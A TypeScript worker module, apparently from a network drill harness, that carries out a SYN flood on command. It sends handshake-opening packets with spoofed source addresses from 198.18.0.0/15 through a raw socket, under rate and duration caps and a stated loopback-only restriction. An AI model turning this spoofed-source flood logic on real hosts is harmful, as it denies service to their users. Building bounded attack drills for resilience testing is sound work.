/**
 * The SYN flood: first packets of connections from addresses that nobody has, so that no handshake is ever ended. Its bounds hold whatever
 * it is told, and it opens its socket only where no packet gets out (raw-socket.ts).
 */
import { setPriority } from "node:os";
import { createInterface } from "node:readline";
import { openRawSocket, sendPacket } from "../kernel/raw-socket.js";
import { closeDescriptor } from "../kernel/sockets.js";
import { parseIpv4 } from "./loopback.js";
import type { AttackNews, AttackOrder } from "./messages.js";
import { monotonicMs } from "./sampler.js";
import { FLOOD_SECONDS_MAX, SYNS_PER_SECOND_MAX, type SynFlood, synPacket } from "./syn-flood.js";

const TURN_MS = 5;
/** When the machine stood still, what was missed is not made up for beyond this: it would be another attack. */
const LATE_MAX_MS = 20;
const STATUS_MS = 250;
/** As the attackers of other drills: the target and its good client come first where cores are few. */
const NICE = 5;

setPriority(NICE);
let fd = -1;
let flood: SynFlood | null = null;
let to: Uint8Array = new Uint8Array(4);
let perMs = 0;
let startedMs = 0;
let endedMs = 0;
let paidUntilMs = 0;
let statusDueMs = 0;
let sent = 0;
let lost = 0;
let timer: NodeJS.Timeout | undefined;

const orders = createInterface({ input: process.stdin });
orders.on("line", (line) => obey(JSON.parse(line) as AttackOrder<SynFlood>));
// Whoever gave the orders has gone.
orders.on("close", () => process.exit(0));

function obey(order: AttackOrder<SynFlood>): void {
	switch (order.do) {
		case "attack":
			begin(order.attack);
			return;
		case "stop":
			end();
			return;
		case "release":
			end();
			tell({ news: "report", report: report() });
			tellStatus();
	}
}

function begin(ordered: SynFlood): void {
	flood = ordered;
	to = parseIpv4(ordered.address);
	fd = openRawSocket(to);
	perMs = Math.min(ordered.synsPerSecond, SYNS_PER_SECOND_MAX) / 1000;
	startedMs = monotonicMs();
	paidUntilMs = startedMs;
	timer = setInterval(turn, TURN_MS);
}

function turn(): void {
	const nowMs = monotonicMs();
	if (nowMs - startedMs > FLOOD_SECONDS_MAX * 1000) end();
	else send(nowMs);
	if (nowMs < statusDueMs) return;
	statusDueMs = nowMs + STATUS_MS;
	tellStatus();
}

/** All that is due by now. */
function send(nowMs: number): void {
	if (flood === null) return;
	paidUntilMs = Math.max(paidUntilMs, nowMs - LATE_MAX_MS);
	const due = Math.floor((nowMs - paidUntilMs) * perMs);
	paidUntilMs += due / perMs;
	for (let index = 0; index < due; index++) {
		const packet = synPacket(madeUp(), 1024 + random(64_512), to, flood.port, random(2 ** 32));
		sent++;
		if (!sendPacket(fd, packet)) lost++;
	}
}

/** Of 198.18.0.0/15. */
function madeUp(): Uint8Array {
	return Uint8Array.of(198, 18 + random(2), random(256), 1 + random(254));
}

function random(below: number): number {
	return Math.floor(Math.random() * below);
}

function end(): void {
	if (timer === undefined) return;
	clearInterval(timer);
	timer = undefined;
	endedMs = monotonicMs();
	closeDescriptor(fd);
}

function tell(news: AttackNews): void {
	process.stdout.write(`${JSON.stringify(news)}\n`);
}

function tellStatus(): void {
	const status = { atMs: monotonicMs(), opened: sent, established: 0, alive: 0, ended: sent };
	tell({ news: "status", status });
}

function report() {
	return {
		opened: sent,
		established: 0,
		alivePeak: 0,
		ends: { "never acknowledged": sent - lost, "could not start": lost },
		tookMs: endedMs - startedMs,
		overdueMs: null,
		faults: [],
	};
}
